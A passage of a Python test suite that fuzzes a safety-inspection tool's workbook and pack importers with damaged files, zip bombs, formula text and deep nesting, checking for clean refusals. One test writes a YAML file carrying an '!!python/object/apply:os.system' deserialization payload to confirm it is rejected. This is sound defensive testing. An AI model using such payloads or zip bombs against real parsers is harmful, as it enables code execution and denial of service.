    refused(ctx, db, wide, "excel.no_header")


# --- 4. checklist workbooks ---------------------------------------------------------------


class Sheets(dict[str, list[list[Any]]]):
    """The rows of each sheet of a workbook; a short repr (hypothesis prints arguments)."""

    def __repr__(self) -> str:
        return f"<sheets {', '.join(self)}>"

    def copy(self) -> Sheets:  # type: ignore[override]
        return Sheets({name: [list(r) for r in rows] for name, rows in self.items()})


@pytest.fixture(scope="module")
def fire_sheets(catalogue: Catalogue, tmp_path_factory: pytest.TempPathFactory) -> Sheets:
    """The fire pack in the checklist template, as the rows of each sheet."""
    from openpyxl import load_workbook

    entry = catalogue.get("gb35181-2017")
    assert entry is not None
    book = export_pack(entry.pack, tmp_path_factory.mktemp("pack") / "fire.xlsx", "en")
    wb = load_workbook(book, read_only=True)
    try:
        return Sheets({ws.title: [list(r) for r in ws.iter_rows(values_only=True)]
                       for ws in wb.worksheets})
    finally:
        wb.close()


PACK_KEYS = {"excel.pack_invalid", "excel.no_sheet", "excel.pack_too_large"}
_OUTS = itertools.count()


def converted_or_refused(path: Path, folder: Path, *keys: str) -> Path | AnjianError:
    """Import a checklist into a new folder below ``folder``: a pack file that loads, or a
    refusal naming the file that writes nothing (not even the folder)."""
    out = folder / f"out-{next(_OUTS)}"
    try:
        written = import_pack(path, out)
    except AnjianError as err:
        assert err.key in (set(keys) or PACK_KEYS | ROSTER_KEYS), err.key
        assert render_both(err).startswith(str(path))
        assert not out.exists() or not any(out.iterdir())
        return err
    load_pack(written)  # what is written is a pack the loader takes
    return written


@budget(25)
@given(st.data())
def test_checklist_with_a_hostile_cell(fire_sheets: Sheets,
                                       tmp_path: Path, data: st.DataObject) -> None:
    sheets = fire_sheets.copy()
    for _ in range(data.draw(st.integers(1, 3))):
        name = data.draw(st.sampled_from(sorted(sheets)))
        rows = sheets[name]
        r = data.draw(st.integers(0, len(rows)))
        c = data.draw(st.integers(0, len(rows[0]) if rows else 3))
        if r == len(rows):
            rows.append([])
        rows[r] += [None] * (c + 1 - len(rows[r]))
        rows[r][c] = data.draw(cell_values | json_values.map(json.dumps) | st.sampled_from(
            ["nosuch", "FIRE-2017-C-7.3.1", "abc", "0", "-1", "2.5", "[]", "{}", "null"]))
    converted_or_refused(workbook(tmp_path / "hostile.xlsx", sheets), tmp_path)


@pytest.fixture(scope="module")
def fire_book(fire_sheets: Sheets, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return workbook(tmp_path_factory.mktemp("book") / "fire.xlsx", fire_sheets)


@budget(30)
@given(st.data())
def test_checklist_cut_short_or_with_a_byte_changed(fire_book: Path, tmp_path: Path,
                                                    data: st.DataObject) -> None:
    path = tmp_path / "damaged.xlsx"
    path.write_bytes(damaged(fire_book.read_bytes(), data))
    converted_or_refused(path, tmp_path)


@budget(30)
@given(RANDOM_WORKBOOK_BYTES)
def test_checklist_of_random_bytes(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "random.xlsx"
    path.write_bytes(data)
    converted_or_refused(path, tmp_path, "excel.not_workbook", "excel.encrypted")


def test_a_checklist_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    bomb = deflate_bomb(tmp_path / "bomb.xlsx", 2 << 30)
    converted_or_refused(bomb, tmp_path, "excel.too_large")
    # under the checklist's own 64 MiB limit, the ratio gives it away
    small = deflate_bomb(tmp_path / "small.xlsx", 40 << 20)
    converted_or_refused(small, tmp_path, "excel.zip_bomb")


def _with(sheets: Sheets, name: str, row: int, col: int, value: Any) -> Sheets:
    copy = sheets.copy()
    copy[name][row] += [None] * (col + 1 - len(copy[name][row]))
    copy[name][row][col] = value
    return copy


def _col(sheet: str, column: str) -> int:
    return sheet_columns(sheet).index(column)


@pytest.mark.parametrize(("sheet", "row", "column", "value", "problem"), [
    ("rules", 1, "threshold", "abc", "rules!2: threshold: 'abc' is not a whole number"),
    ("rules", 1, "threshold", dt.date(2020, 1, 2), "rules!2: threshold: '2020-01-02' "
     "is not a whole number"),
    ("rules", 1, "threshold", "9" * 5000, "rules!2: threshold: '" + "9" * 40 + "' is not a "
     "whole number"),
    ("items", 1, "effective", "2020-02-30", "items!2: effective: '2020-02-30' is not a date"),
    ("items", 2, "section", "nosuch", "items!3: section: 'nosuch' is no id on the sheet "
     "'sections'"),
    ("items", 0, "text_zh", "tex_zh", "items!1: column 'tex_zh' is not one of this "
     "sheet's"),
    ("items", 1, "text_zh", True, "items!2: text_zh: TRUE where text belongs"),
])
def test_checklist_problems_name_sheet_and_row(fire_sheets: Sheets,
                                               tmp_path: Path, sheet: str, row: int,
                                               column: str, value: Any, problem: str) -> None:
    path = workbook(tmp_path / "fire.xlsx",
                    _with(fire_sheets, sheet, row, _col(sheet, column), value))
    err = converted_or_refused(path, tmp_path, "excel.pack_invalid")
    assert isinstance(err, AnjianError)
    assert problem in str(err)


def test_checklist_pack_sheet_takes_only_pack_fields(fire_sheets: Sheets,
                                                     tmp_path: Path) -> None:
    sheets = fire_sheets.copy()
    sheets["pack"].append(["rules", "x"])  # used to crash the problem report
    sheets["rules"] = sheets["rules"][:1]
    err = converted_or_refused(workbook(tmp_path / "fire.xlsx", sheets), tmp_path,
                               "excel.pack_invalid")
    assert f"pack!{len(sheets['pack'])}: 'rules' is not a field of this sheet" in str(err)


def test_checklist_items_report_their_own_rows(fire_sheets: Sheets,
                                               tmp_path: Path) -> None:
    # Items listed out of section order: a problem must still name the row of its item.
    sheets = fire_sheets.copy()
    header, *items = sheets["items"]
    items.reverse()
    items[0][_col("items", "text_zh")] = None
    sheets["items"] = [header, *items]
    err = converted_or_refused(workbook(tmp_path / "fire.xlsx", sheets), tmp_path,
                               "excel.pack_invalid")
    assert "items!2: text_zh: required: the cell is empty" in str(err)


def test_checklist_too_large_for_a_pack_file(fire_sheets: Sheets,
                                             tmp_path: Path) -> None:
    sheets = fire_sheets.copy()
    for row in sheets["items"][1:10]:
        row[_col("items", "guidance_zh")] = "长" * (1 << 20)
    err = converted_or_refused(workbook(tmp_path / "fire.xlsx", sheets), tmp_path,
                               "excel.pack_too_large")
    assert f"over the {MAX_PACK_BYTES}-byte limit of a pack file" in str(err)


def test_checklist_rows_are_limited(fire_sheets: Sheets,
                                    tmp_path: Path) -> None:
    sheets = fire_sheets.copy()
    sheets["notes"] = [["id"]] + [[f"N{n}"] for n in range(MAX_PACK_ROWS)]
    err = converted_or_refused(workbook(tmp_path / "fire.xlsx", sheets), tmp_path,
                               "excel.too_many_rows")
    assert f"more than {MAX_PACK_ROWS} rows" in str(err)


def test_formula_text_in_a_checklist_stays_text(fire_sheets: Sheets, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheets = fire_sheets.copy()
    for row, formula in zip(sheets["items"][1:], FORMULAS, strict=False):
        row[_col("items", "text_zh")] = formula
    written = converted_or_refused(workbook(tmp_path / "fire.xlsx", sheets), tmp_path)
    assert isinstance(written, Path)
    pack = load_pack(written)
    texts = [i.text_zh for i in pack.items()]
    assert all(f.strip() in texts or f in texts for f in FORMULAS)
    again = export_pack(pack, tmp_path / "again.xlsx", "en")
    ws = load_workbook(again)["items"]
    cells = [c for c in ws[_col_letter("items", "text_zh")] if c.value in FORMULAS]
    assert cells and all(c.data_type == "s" for c in cells)  # written as text, not formulas


def _col_letter(sheet: str, column: str) -> str:
    from openpyxl.utils import get_column_letter

    return str(get_column_letter(_col(sheet, column) + 1))


def test_checklist_output_folder_is_a_file(fire_sheets: Sheets,
                                           tmp_path: Path) -> None:
    path = workbook(tmp_path / "fire.xlsx", fire_sheets)
    with pytest.raises(AnjianError) as info:
        import_pack(path, path)
    assert info.value.key == "io.write"
    assert str(info.value) == f"{path}: cannot write: a file, not a folder; give a folder"


# --- the command line ---------------------------------------------------------------------


def test_hostile_files_on_the_command_line(tmp_path: Path, real_roster: Path) -> None:
    """Each command a user would give a hostile file exits 2 with the message, no traceback,
    and the database is untouched."""
    db = tmp_path / "cli.db"
    ctx = open_context(f"sqlite:///{db}", actor="模糊测试")
    roster.add_enterprise(ctx, uscc=new_code(), name="已登记单位", sector="fire",
                            district="历下区")
    ctx.store.close()
    before = table(db)
    deep = tmp_path / "deep.yaml"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    tagged = tmp_path / "tagged.yaml"
    tagged.write_text(f"id: !!python/object/apply:os.system ['touch {tmp_path / 'ran'}']\n")
    findings = tmp_path / "findings.json"
    findings.write_text('[{"item": "FIRE-2017-D-6.1", "value": ' + "9" * 5000 + "}]")
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(real_roster.read_bytes()[: real_roster.stat().st_size // 2])
    bomb = deflate_bomb(tmp_path / "bomb.xlsx", 300 << 20)
    draft = tmp_path / "draft"
    (draft / "cases").mkdir(parents=True)
    (draft / FIRE_YAML.name).write_text(FIRE_YAML.read_text(encoding="utf-8"), encoding="utf-8")
    case = json.loads((FIRE_YAML.parent / "cases" / "clean-other-place.json").read_text("utf-8"))
    case["findings"][0] = {"item": case["findings"][0]["item"], "value": 10**400}
    (draft / "cases" / "huge.json").write_text(json.dumps(case), encoding="utf-8")
    checklist = tmp_path / "checklist.xlsx"
    checklist.write_bytes(real_roster.read_bytes())  # a workbook, but no checklist
    commands = {
        "deep": (["packs", "check", str(deep)], f"{deep}:1: error: nested more than"),
        "tagged": (["packs", "check", str(tagged)], "tag '!!python/object/apply:os.system' "
                   "is not allowed"),
        "draft": (["evaluate", "--pack-file", str(tagged), "--findings", str(findings)],
                  "is not allowed"),
        "case": (["packs", "check", str(draft)], f"{draft / 'cases' / 'huge.json'}: error: "
                 "input refused:"),
        "findings": (["evaluate", "--pack", "gb35181-2017", "--findings", str(findings)],
                     f"{findings}:1: malformed JSON: 9999"),
        "cut": (["import", "enterprises", str(cut)], f"{cut}: not an Excel workbook"),
        "bomb": (["import", "enterprises", str(bomb)], "bytes unpacked, over the "
                 f"{MAX_UNCOMPRESSED}-byte limit"),
        "checklist": (["import", "pack", str(checklist), "--out", str(tmp_path / "out")],
                      f"{checklist}: no sheet 'pack'"),
    }
    env = {k: v for k, v in os.environ.items() if k != "ANJIAN_LANG"}
    running = {name: subprocess.Popen(
        [str(ANJIAN), "--lang", "en", "--db", f"sqlite:///{db}", "--user", "模糊测试", *args],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
        for name, (args, _) in commands.items()}
    for name, process in running.items():
        out, err = process.communicate(timeout=120)
        assert process.returncode == 2, (name, out, err)
        assert commands[name][1] in out + err, (name, out, err)
        assert "Traceback" not in out + err, (name, err)
    assert not (tmp_path / "ran").exists()
    assert not (tmp_path / "out").exists()
    assert table(db) == before


def test_a_golden_case_nested_beyond_reason_is_named(tmp_path: Path) -> None:
    from core.pack.cases import load_case

    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    case = load_case(path)
    assert case.case is None and str(case.problem) == (
        f"{path}: nested too deeply; a golden case is a flat object of findings and a site")
    assert case.problem is not None and case.problem.render("zh") == (
        f"{path}: 嵌套过深；示例应为由检查结果和场所组成的简单对象")
